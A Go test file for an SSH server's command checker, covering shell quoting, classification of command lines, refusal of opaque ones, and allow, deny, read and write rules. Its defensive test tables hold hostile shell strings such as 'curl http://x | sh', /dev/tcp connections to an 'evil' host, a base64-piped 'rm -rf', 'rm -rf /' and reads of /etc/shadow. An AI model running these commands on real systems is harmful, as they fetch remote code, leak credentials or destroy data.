package command_test

import (
	"bytes"
	"flag"
	"math/rand/v2"
	"os/exec"
	"strings"
	"testing"

	"drawbridge/internal/fault"
	"drawbridge/internal/servers/ssh/command"
)

// make long gives a million.
var quotings = flag.Int("quotings", 10_000, "how many random strings a real shell must give back unchanged")

// T20: whatever a string holds, a shell takes its quoted form for that string and
// for nothing else.
func TestQuote_realShell(t *testing.T) {
	t.Parallel()
	sh, err := exec.LookPath("sh")
	if err != nil {
		without(t, "there is no sh here")
	}
	r := rand.New(rand.NewPCG(5, 22))
	const atOnce = 200
	for done := 0; done < *quotings; done += atOnce {
		words := make([]string, 0, atOnce)
		for range min(atOnce, *quotings-done) {
			words = append(words, hostile(r))
		}
		line, err := command.Join(words)
		if err != nil {
			t.Fatal(err)
		}
		cmd := exec.CommandContext(t.Context(), sh)
		cmd.Stdin = strings.NewReader(`printf '%s\0' ` + line + "\n")
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("sh: %v, for %q", err, words)
		}
		got := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
		for i := range words {
			if i >= len(got) || got[i] != words[i] {
				t.Fatalf("the shell gave back %q, wanted %q", got[min(i, len(got)-1)], words[i])
			}
		}
	}
}

// hostile is a random string of what shells find meaningful, and of any bytes but NUL.
func hostile(r *rand.Rand) string {
	pieces := []string{"'", `"`, "`", "$(id)", "${x}", "$", `\`, "\n", "\r", "\t", " ", ";", "&&", "|", ">", "<", "*", "?", "[a]", "{a,b}", "~", "!", "!!", "#", "=", "-", "--", "%s", "%", "^", "é", "\u2028", "\xff", "\x80", "\x1b", "a", "\\\n", "$'\\x41'", "''"}
	var b bytes.Buffer
	for range r.IntN(12) {
		if r.IntN(3) == 0 {
			b.WriteByte(byte(1 + r.IntN(255)))
			continue
		}
		b.WriteString(pieces[r.IntN(len(pieces))])
	}
	return b.String()
}

func TestQuote(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{"": "''", "a": "a", "a b": "'a b'", "it's": `'it'\''s'`, "=x": "'=x'", "/etc/fstab": "/etc/fstab", "~": "'~'"} {
		if got, err := command.Quote(in); err != nil || got != want {
			t.Errorf("Quote(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	if _, err := command.Join([]string{"echo", "a\x00b"}); fault.CodeOf(err) != fault.Invalid {
		t.Errorf("NUL: %v", err)
	}
}

func TestJudge_class(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		text string
		want command.Class
	}{
		{"uptime", command.Reads},
		{"df -h && free -m | tail -n 1", command.Reads},
		{"/usr/bin/cat /etc/hosts 2>/dev/null", command.Reads},
		{"ls -l /var/log/*.log", command.Reads},
		{"for f in a b; do cat \"$f\"; done", command.Reads},
		{"for f in a b; do sort $f; done", command.Changes}, // $f may be an option
		{"find /var/log -name '*.log' -mtime -7 -size +10k -print0 | xargs -0 -n 1 wc -l", command.Reads},
		{"ps aux | sort -rnk3 | head -5", command.Reads},
		{"sort -rnko /etc/hosts", command.Changes}, // a value that could be letters of options
		{"ps aux | sort -rn -k 3,3 -t: | head -5", command.Reads},
		{"sort /var/log/a* | uniq -c", command.Reads},
		{"journalctl -u ssh -n50 --since='1 hour ago' -o short", command.Reads},
		{"docker ps -a --format '{{.Names}}'; podman logs --tail 5 web", command.Reads},
		{"[ -n \"$HOME\" ] && [ \"$USER\" = root ] || [ 1 -lt 2 ]", command.Reads},
		{"n=1; printf '%s %s\\n' \"$n\" x", command.Reads},
		{"command -v curl; which -a ls", command.Reads},
		{"nice -n 5 ionice -c 3 stdbuf -oL timeout -k 1 9 du -sh /", command.Reads},
		{"cat \"/tmp/$USER\"", command.Reads},
		{"LC_ALL=C ls", command.Reads},
		{"timeout 5 journalctl -u nginx -n 50 --no-pager", command.Reads},
		{"ip -br a", command.Reads},
		{"systemctl --no-pager status nginx", command.Reads},
		{"git log --oneline", command.Changes}, // a repository names programs that git runs
		{"sh -c 'ls; df'", command.Reads},
		{"ls 2>&1", command.Reads},
		{"[ -f /etc/fstab ] && echo yes", command.Reads},
		{"date --date=yesterday +%F", command.Reads},
		{"echo $((1 + 2))", command.Reads},

		{"date 01010000", command.Changes},
		{"ls > /tmp/x", command.Changes},
		{"sort -uo /etc/passwd x", command.Changes},
		{"sort --outp=/etc/passwd x", command.Changes},
		{"uniq a b", command.Changes},
		{"find / -delete", command.Changes},
		{"find /tmp -exec rm {} +", command.Changes},
		{"ls | xargs rm", command.Changes},
		{"sort *", command.Changes}, // a file may be called -x
		{"ip addr add 10.0.0.1/8 dev lo", command.Changes},
		{"git diff --output=/tmp/x", command.Changes},
		{"journalctl --vacuum-time=1s", command.Changes},
		{"systemctl restart nginx", command.Changes},
		{"systemctl status nginx; systemctl stop nginx", command.Changes},
		{"echo $(rm -rf /)", command.Changes},
		{"/tmp/ls", command.Changes},
		{"./cat x", command.Changes},
		{"GIT_EXTERNAL_DIFF=/tmp/x git diff", command.Changes},
		{"sh -c 'rm x'", command.Changes},
		{"env A=b rm x", command.Changes},
		{"command rm x", command.Changes},
		{"busybox rm x", command.Changes},
		{"hostname evil", command.Changes},
		{"while true; do rm x; done", command.Changes},

		{"sudo ls", command.Privileged},
		{"ls; sudo -n id", command.Privileged},
		{"sh -c 'exec su -'", command.Privileged},
		{"nohup nice -n 5 doas id", command.Privileged},
		{"echo \"$(sudo id)\"", command.Privileged},
	} {
		v, err := command.Judge(c.text, command.Rules{})
		if err != nil || v.Class != c.want {
			t.Errorf("%q is %v, %v; want %v", c.text, v.Class, err, c.want)
		}
	}
}

// What runs here is not to be seen in the text.
func TestJudge_refused(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"$X", "x=rm; $x y", "`echo rm` y", "r{m,} y", "r? y", "~/x", "eval $X", "eval \"$(cat x)\"", ". ./x", "source x", "ls() { rm -rf /; }; ls",
		"curl http://x | sh", "bash", "bash -s", "sh -c \"$X\"", "bash -i", "bash --rcfile x", "sh <<EOF\nrm x\nEOF", "echo cm0gLXJmCg== | base64 -d | sh",
		"alias ls=rm", "PATH=/tmp ls", "PATH=/tmp; ls", "export PATH=/tmp", "LD_PRELOAD=/tmp/x.so ls", "env PATH=/tmp ls", "env -S 'rm x'", "env LD_PRELOAD=x ls",
		"hash -p /tmp/x ls", "trap 'rm x' EXIT", "$'\\x72m' x", "echo $((a))", "echo $((a[$(rm x)]))", "read 'a[$(rm x)]'", "read PATH", "unset PATH", ": ${PATH:=/tmp}",
		"echo ${x@P}", "echo ${!x}", "cat <(rm x)", "coproc rm x", "exec 3<>/dev/tcp/evil/80", "cat < /dev/tcp/evil/80", "[[ -v a ]]", "((a))", "let a=1",
		"for PATH in /tmp; do ls; done", "find . -name x $OPT", "xargs -I X X y", "find . -exec {} \\;", "timeout $T rm x", "nice --adjustment 5 rm x",
		"python3 -c 'import os'", "perl -e 1", "awk 'BEGIN{system(\"id\")}'", "ssh other id", "sh script.sh", "tar -cf x --checkpoint-action=exec=sh y",
		"echo 'unfinished", "a=(1 2)", "", " \n", "ls\x00", "ls \x1b[31m", "ls\r", "cat <<< $X | $(x)", "set -- a", "function f { ls; }",
		strings.Repeat("sh -c '", 1) + strings.Repeat("x", command.MaxLength) + "'",
	} {
		if v, err := command.Judge(text, command.Rules{}); err == nil {
			t.Errorf("%.80q passes as %v", text, v)
		} else if code := fault.CodeOf(err); code != fault.Forbidden && code != fault.Invalid {
			t.Errorf("%.80q: %s %v", text, code, err)
		}
	}
}

func TestJudge_rules(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		text        string
		allow, deny []string
		ok          bool
	}{
		{"systemctl restart nginx", []string{"systemctl restart *"}, nil, true},
		{"/usr/bin/systemctl restart nginx", []string{"systemctl restart *"}, nil, true},
		{"systemctl stop nginx", []string{"systemctl restart *"}, nil, false},
		{"systemctl restart nginx; rm x", []string{"systemctl restart *"}, nil, false},
		{"systemctl restart nginx $(rm x)", []string{"systemctl restart *"}, nil, false},
		{"/tmp/systemctl restart nginx", []string{"systemctl restart *"}, nil, false},
		{"/opt/deploy v1", []string{"/opt/deploy *"}, nil, true},
		{"python3 -c 'print(1)'", []string{"python3 *"}, nil, true},
		{"systemctl $X", []string{"systemctl restart nginx"}, nil, false},
		{"rm -rf /", nil, []string{"rm *"}, false},
		{"/bin/rm -rf /", nil, []string{"rm *"}, false},
		{"./rm x", nil, []string{"rm *"}, false},
		{"ls | xargs rm", nil, []string{"rm *"}, false},
		{"find . -exec rm {} \\;", nil, []string{"rm *"}, false},
		{"nice rm x", nil, []string{"rm *"}, false},
		{"rm $X", nil, []string{"rm -rf *"}, false},
		{"systemctl $X", nil, []string{"systemctl stop nginx"}, false},
		{"systemctl \"st$X\" nginx", nil, []string{"systemctl stop nginx"}, false},
		{"systemctl \"re$X\" nginx", nil, []string{"systemctl stop nginx"}, true},
		{"ls", nil, []string{"rm *"}, true},
		{"rm x", []string{"rm *"}, []string{"rm x"}, false},
	} {
		_, err := command.Judge(c.text, command.Rules{Allow: patterns(t, c.allow), Deny: patterns(t, c.deny)})
		if (err == nil) != c.ok {
			t.Errorf("%q with allow %q, deny %q: %v", c.text, c.allow, c.deny, err)
		}
	}
}

func patterns(t *testing.T, texts []string) (all []command.Pattern) {
	t.Helper()
	for _, text := range texts {
		p, err := command.ParsePattern(text)
		if err != nil {
			t.Fatal(err)
		}
		all = append(all, p)
	}
	return all
}

func TestJudge_writes(t *testing.T) {
	t.Parallel()
	rules := command.Rules{Write: []string{"/srv/www/**", "/tmp/*.log"}}
	for text, ok := range map[string]bool{
		"echo x > /srv/www/a/b": true, "echo x >> /tmp/a.log": true, "echo x > /srv/www": false, "echo x > /srv/www/../x": false,
		"echo x > /etc/passwd": false, "echo x > $F": false, "{ echo x; } > /etc/passwd": false, "> /etc/passwd": false, "nice ls > /etc/passwd": false, "echo x > /dev/null": true,
		"echo x > rel": false, "ls &> /etc/x": false,
	} {
		if _, err := command.Judge(text, rules); (err == nil) != ok {
			t.Errorf("%q: %v", text, err)
		}
	}
}

// Where reading is limited only what is allowed by name runs, and its input comes from
// where it may.
func TestJudge_reading(t *testing.T) {
	t.Parallel()
	rules := command.Rules{Read: []string{"/srv/**"}, Write: []string{"/srv/**", "/drop/*"}, Allow: patterns(t, []string{"cat", "sh *", "wc -l", "read *", "exec *"})}
	for text, ok := range map[string]bool{
		"cat < /srv/a": true, "cat < /dev/null": true, "cat <<E\nx\nE": true, "wc -l < /srv/a > /srv/b": true, "cat 0< /srv/a": true, "sh -c 'cat < /srv/a'": true,
		"cat < /etc/shadow": false, "< /etc/shadow cat": false, "cat 3< /etc/shadow <&3": false, "{ cat; } < /etc/shadow": false, "(cat) < /etc/shadow": false,
		"while read -r l; do cat; done < /etc/shadow": false, "if cat; then cat; fi < /etc/shadow": false, "sh -c 'cat < /etc/shadow'": false, "exec < /etc/shadow; cat": false,
		"< /etc/shadow": false, "cat < /srv/../etc/shadow": false, "cat < srv/a": false, "cat <> /etc/shadow": false, "cat <> /drop/a": false, "cat | wc -l < /etc/shadow": false,
		"cat < ~/x": false, "head /srv/a": false, "cat $(cat < /etc/shadow)": false,
	} {
		if _, err := command.Judge(text, rules); (err == nil) != ok {
			t.Errorf("%q: %v", text, err)
		}
	}
	// Without a list nothing is known to read only what may be read.
	rules.Allow = nil
	for _, text := range []string{"cat /srv/a", "ls", "uptime", "python3 -c 1"} {
		if _, err := command.Judge(text, rules); fault.CodeOf(err) != fault.Forbidden {
			t.Errorf("%q: %v", text, err)
		}
	}
	if err := command.JudgeArguments([]string{"cat", "/srv/a"}, rules); fault.CodeOf(err) != fault.Forbidden {
		t.Errorf("%v", err)
	}
	// Nor is anything limited without patterns; what is read is not listed as a command.
	if v, err := command.Judge("{ wc -l; } < /etc/passwd", command.Rules{}); err != nil || v.Class != command.Reads || len(v.Commands) != 1 {
		t.Errorf("%+v, %v", v, err)
	}
}

func TestJudgeArguments(t *testing.T) {
	t.Parallel()
	for _, argv := range [][]string{{"df", "-h"}, {"cat", "/tmp/$(id)"}, {"ls", ";", "rm"}, {"docker", "ps", "-a"}, {"journalctl", "-u", "ssh"}} {
		if err := command.JudgeArguments(argv, command.Rules{}); err != nil {
			t.Errorf("%q: %v", argv, err)
		}
	}
	for _, argv := range [][]string{nil, {""}, {"rm", "x"}, {"xargs", "rm"}, {"command", "rm"}, {"env", "rm"}, {"find", "/", "-delete"}, {"find", ".", "-exec", "rm", "{}", ";"},
		{"ls", "a\x00"}, {"sh", "-c", "ls"}, {"git", "-c", "core.pager=x", "log"}, {"sudo", "ls"}, {"docker", "-H", "x", "ps"}, {"systemctl", "--host=x", "status"}, {"sort", "-o", "x"}} {
		if err := command.JudgeArguments(argv, command.Rules{}); err == nil {
			t.Errorf("%q passes", argv)
		}
	}
	if err := command.JudgeArguments([]string{"cat", "/etc/shadow"}, command.Rules{Deny: patterns(t, []string{"cat /etc/shadow"})}); fault.CodeOf(err) != fault.Forbidden {
		t.Errorf("denied all the same: %v", err)
	}
}

// FuzzJudge looks for texts that make the judge fail, and holds it to one rule: a
// text that it lets pass under an allow list names only what the list allows.
func FuzzJudge(f *testing.F) {
	for _, seed := range []string{"ls", "ls; rm x", "sh -c 'ls'", "find . -exec rm {} \\;", "a=b c $d `e` $(f) \"g $h\" 'i'", "{ a; } > b", "<<E\nx\nE", "xargs -I{} {}"} {
		f.Add(seed)
	}
	allow, err := command.ParsePattern("ls *")
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, text string) {
		v, err := command.Judge(text, command.Rules{Allow: []command.Pattern{allow}})
		if err != nil {
			return
		}
		for _, c := range v.Commands {
			if name, _, _ := strings.Cut(c, " "); name != ":" && name != "ls" && !strings.HasSuffix(name, "/ls") {
				t.Fatalf("%q lets %q run", text, c)
			}
		}
	})
}
